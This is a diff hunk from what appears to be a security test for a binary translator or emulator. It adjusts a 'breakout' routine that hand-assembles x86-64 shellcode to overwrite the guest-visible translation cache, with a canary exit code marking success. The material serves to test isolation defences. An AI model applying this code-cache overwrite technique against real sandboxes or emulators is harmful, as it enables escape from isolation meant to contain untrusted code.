@@ -247,9 +247,9 @@ def breakout(files):
              b"\xbf\x4d\0\0\0\xb8\xe7\0\0\0\x0f\5canary\0")     # exit_group(77)
     cache = 0xD040000000  # BT_REGION as the guest sees it
     code = (b"\x48\x8d\x35" + struct.pack("<i", 39) +            # lea shell(%rip), %rsi
-            b"\x48\xbf" + struct.pack("<Q", cache + 0x200000) +   # movabs $..., %rdi
+            b"\x48\xbf" + struct.pack("<Q", cache + 0x280000) +   # movabs $..., %rdi
             b"\xb9" + struct.pack("<I", len(shell)) + b"\xf3\xa4"  # mov $..., %ecx; rep movsb
-            b"\x48\xbf" + struct.pack("<Q", cache + 0x1FFFFF) +
+            b"\x48\xbf" + struct.pack("<Q", cache + 0x27FFFF) +
             b"\xb9" + struct.pack("<I", 0x90000) + b"\xb0\x90\xfd\xf3\xaa"  # mov $0x90, %al; std; rep stosb
             b"\x0f\x0b" + shell)
     path = files("breakout", elf(code))
